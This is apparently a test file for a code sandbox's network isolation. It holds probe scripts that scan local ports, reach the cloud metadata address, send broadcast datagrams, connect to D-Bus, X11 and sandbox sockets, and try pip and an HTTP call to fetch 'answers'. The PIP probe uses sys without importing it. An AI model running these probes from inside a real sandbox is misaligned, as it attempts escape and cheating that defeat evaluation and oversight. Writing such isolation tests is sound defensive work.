"""Row 10: the network, and sockets that are none."""

from tests.submissions.hostile.attack import Attack, early

# Ports are not known inside: every one that a listener may have is tried.
TCP = """
import socket
opened = []
for port in range(1024, 65536):
    with socket.socket() as s:
        s.settimeout(0.2)
        if s.connect_ex(("127.0.0.1", port)) == 0:
            s.sendall(b"hello"); opened.append(port)
for host in ("192.0.2.1", "10.0.2.2", "169.254.169.254", "::1"):
    try:
        socket.create_connection((host, 80), 1); opened.append(host)
    except OSError as error:
        print(host, error.errno)
print("opened", opened)
"""
UDP = """
import socket
with socket.socket(type=socket.SOCK_DGRAM) as s:
    for port in range(1024, 65536):
        try:
            s.sendto(b"hello", ("127.0.0.1", port))
        except OSError:
            pass
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for address in ("255.255.255.255", "10.0.2.3", "224.0.0.1"):
        try:
            s.sendto(b"hello", (address, 53)); print("sent", address)
        except OSError as error:
            print(address, error.errno)
try:
    print("resolved", socket.getaddrinfo("example.org", 80))
except OSError as error:
    print("no name service", error.errno)
"""
ABSTRACT = """
import socket
names = {line.split()[-1] for line in open("/proc/net/unix") if "@" in line} | {"@/tmp/dbus", "@/tmp/.X11-unix/X0"}
names |= {f"@splot-listener-{n}" for n in range(16)} | {f"@splot-core-{n}" for n in range(16)}
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as s:
            try:
                s.connect("\\0" + name[1:]); s.sendall(b"hello"); print("reached", name)
            except OSError:
                pass
for family in (17, 29, 38, 40):  # packets, CAN, the kernel's ciphers, a virtual machine's host
    try:
        socket.socket(family, socket.SOCK_STREAM); print("opened family", family)
    except OSError as error:
        print(family, error.errno)
"""
PIP = """
import subprocess, urllib.request
print(subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.org/simple", "--retries", "0", "idna"],
                     capture_output=True, text=True).returncode)
urllib.request.urlopen("https://example.org/?answers=1", timeout=5)
"""

ATTACKS = (
    Attack("knocks-on-every-port", "10", "a TCP listener of the host", early(TCP)),
    Attack("sends-datagrams", "10", "UDP and DNS", early(UDP), soak=True),
    Attack("abstract-sockets", "10", "sockets that have no file, and other families", early(ABSTRACT), soak=True),
    Attack("downloads-a-solution", "10", "pip and HTTP", early(PIP), soak=True),
)
